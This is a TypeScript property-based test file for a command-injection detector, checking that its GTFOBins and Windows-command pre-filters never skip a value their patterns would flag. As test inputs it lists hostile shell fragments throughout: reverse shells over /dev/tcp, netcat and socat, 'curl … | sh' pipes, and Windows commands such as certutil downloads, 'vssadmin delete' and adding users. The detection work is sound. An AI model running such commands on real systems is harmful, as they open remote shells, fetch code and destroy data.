/**
 * The cmdi detector skips its GTFOBins pattern when `mayMatchGtfobins` says the value cannot match it: that gate
 * must hold for every string the pattern matches (a gate narrower than its pattern would hide an attack).
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { scanValue as charMask } from '../../../src/verifiers/payload-shield/value-scan.js';
import { GTFOBINS, mayMatchGtfobins, mayRunWindowsCommand, WINDOWS_COMMAND } from '../../../src/verifiers/payload-shield/cmdi-command-line.js';
import { CMDI_RULES, createCmdiDetector } from '../../../src/verifiers/payload-shield/cmdi.js';
import { expectGateCovers, inText, ruleOf } from './helpers.js';

const gateOf = (s: string): boolean => mayMatchGtfobins(s, charMask(s));

// Every alternative of GTFOBINS with varied white space (`\s` includes Unicode spaces), inside random text.
const ws = fc.constantFrom(' ', '\t', '  ', '\u00a0', '\u2003', '\f', '\n');
const ws0 = fc.constantFrom('', ' ', '\t', '\u00a0');
const core = fc.oneof(
  fc.constantFrom('/dev/tcp/10.0.0.1/4444', '/dev/udp/h/53', '0<&196', '--checkpoint-action=exec', 'pty.spawn('),
  fc.tuple(fc.constantFrom('bash', 'sh', 'zsh'), ws, ws0, fc.constantFrom('>', '&', '<')).map(([c, a, b, r]) => `${c}${a}-i${b}${r}`),
  fc.tuple(fc.constantFrom('nc', 'ncat'), ws, ws).map(([c, a, b]) => `${c}${a}-lvp${b}-e /bin/sh`),
  fc.tuple(ws, ws0, ws0).map(([a, b, c]) => `-exec${a}/bin/sh system${b}(${c}'/bin/bash`),
  fc.tuple(fc.constantFrom('mkfifo', 'chmod +x'), ws).map(([c, a]) => `${c}${a}/tmp/f`),
  fc.tuple(ws, ws0).map(([a, b]) => `--checkpoint-action${b}=${b}exec socat${a}tcp:h:1 exec:sh busybox${a}wget`),
  fc.tuple(fc.constantFrom('python', 'python2', 'python3'), ws, ws, ws0, fc.constantFrom("'", '"')).map(
    ([p, a, b, c, q]) => `${p}${a}-c${b}${q}${c}import${a}socket`,
  ),
  fc.tuple(fc.constantFrom('curl', 'wget'), ws, ws0).map(([c, a, b]) => `${c}${a}example.com${b}|${b}bash`),
  fc.tuple(ws, fc.constantFrom('nc', 'sh', 'telnetd', 'httpd', 'wget')).map(([a, t]) => `busybox${a}${t}`),
  fc.tuple(ws).map(([a]) => `exec${a}5<>/dev/tcp/h/1`),
);
const noise = fc.oneof(
  fc.constantFrom(' ', ';', '&', '|', "'", '(', ')', '=', ':', '/', '-', 'x', '1', '\n'),
  fc.string({ maxLength: 4 }),
);
const value = inText(core, noise, 3);

describe('mayMatchGtfobins', () => {
  it('holds for every generated string GTFOBINS matches', () => {
    expectGateCovers(value, (s) => GTFOBINS.test(s), gateOf, 30_000, 10_000);
  });

  // One attack per clause of the gate, passing by that clause alone: dropping a clause fails its line.
  it.each<[string, string]>([
    ['mkfifo /tmp/f', '/ with white space'],
    ['x=/dev/tcp/10.0.0.1/4444', '/dev/, no white space'],
    ["system('/bin/sh')", '/bin/, no white space'],
    ['curl example.com | sh', '|'],
    ['bash -i >& 3', '-i with >, & or <'],
    ['exec 0<&196', '0<& (with < and &)'],
    ['tar cf x x --checkpoint=1 --checkpoint-action=exec=sh', '--checkpoint-action with ='],
    ['socat tcp:10.0.0.1:4444 exec:sh', 'socat with :'],
    ["python -c 'import pty", 'import with a quote'],
    ['pty.spawn("sh")', 'pty.spawn with ('],
    ['busybox nc 10.0.0.1 4444 -e sh', 'busybox, no syntax character'],
  ])('%s (passes by %s)', (s) => {
    expect(GTFOBINS.test(s)).toBe(true);
    expect(gateOf(s)).toBe(true);
  });

  // The separator search runs only when the mask holds a separator's class: one value per class, each chained by it alone.
  it.each(['x;whoami', 'x|whoami', 'x&whoami', 'x `{whoami,}`', 'x\nwhoami', 'x\rwhoami', 'x\\nwhoami', 'x\\rwhoami'])('%j: a command after a separator', (s) => {
    expect(ruleOf(createCmdiDetector(), s)).toBe(CMDI_RULES.chainedCommand);
  });

  it('skips the pattern on URLs (a slash, no white space, no /dev/ or /bin/)', () => {
    for (const s of ['https://api.github.com/repos/codertocat/hello-world/issues{/number}', 'https://avatars1.githubusercontent.com/u/21031067?v=4']) {
      expect(gateOf(s), s).toBe(false);
    }
  });

  it('skips the pattern on the prose of a typical order', () => {
    for (const s of ["leave at door; ring bell. it's a gift - no receipt please!", 'please deliver after 6pm (dog is friendly) & call +44 20 7946 0958 if needed.', "levi's 501 jeans w32\" l34\""]) {
      expect(gateOf(s), s).toBe(false);
    }
  });

  it('lets the detector report a shell spawn the old gate skipped (no slash, pipe, quote, parenthesis, < or &)', () => {
    expect(ruleOf(createCmdiDetector(), 'note; then socat tcp:10.0.0.1:4444 exec:sh')).toBe(CMDI_RULES.shellSpawn);
    expect(ruleOf(createCmdiDetector(), 'note; then busybox telnetd -l sh')).toBe(CMDI_RULES.shellSpawn);
  });
});

// Every alternative of WINDOWS_COMMAND, at the start or after a separator and white space, inside random text.
const windowsCommand = fc.constantFrom(
  'cmd /c whoami', 'cmd.exe /k x', 'for /f %i in (x) do y', 'net user', 'net1 localgroup', 'net.exe view', 'net user x /add',
  'net use \\\\h', 'reg add hklm\\x', 'reg.exe query "hk', 'netsh firewall', 'powershell -enc', 'pwsh.exe /c',
  'wmic process', 'wmic /node', 'certutil -urlcache', 'certutil.exe /f', 'bitsadmin /transfer', 'schtasks /create',
  'vssadmin delete', 'wevtutil cl', 'rundll32 x,y', 'regsvr32 /s', 'mshta http:', 'taskkill /f', 'tasklist', 'tasklist /v',
  'systeminfo', 'whoami', 'whoami /all', 'ipconfig /all', 'type c:\\x', 'dir c:\\', 'del c:\\', 'copy c:\\',
  'move c:\\', 'sc query x', 'sc.exe stop x', 'start /b x',
);
const separated = inText(
  fc
    .tuple(
      fc.constantFrom('', ';', '&', '|', '\n', '\r', '`', '('),
      fc.array(fc.constantFrom(' ', '\t', '\u00a0', '\u2003', '\ufeff', '\n'), { maxLength: 5 }),
      windowsCommand,
    )
    .map(([sep, spaces, command]) => sep + spaces.join('') + command),
  noise,
  3,
);

describe('mayRunWindowsCommand', () => {
  it('holds for every generated string WINDOWS_COMMAND matches', () => {
    expectGateCovers(separated, (s) => WINDOWS_COMMAND.test(s), (s) => mayRunWindowsCommand(s, charMask(s)), 30_000, 5_000);
  });

  it('skips prose with separators', () => {
    for (const s of ["leave at door; ring bell. it's a gift - no receipt please!", 'please deliver after 6pm (dog is friendly) & call +44 20 7946 0958 if needed.']) {
      expect(mayRunWindowsCommand(s, charMask(s)), s).toBe(false);
    }
    expect(mayRunWindowsCommand('x;\u00a0 \t\u2003whoami', charMask('x;\u00a0 \t\u2003whoami'))).toBe(true);
  });
});
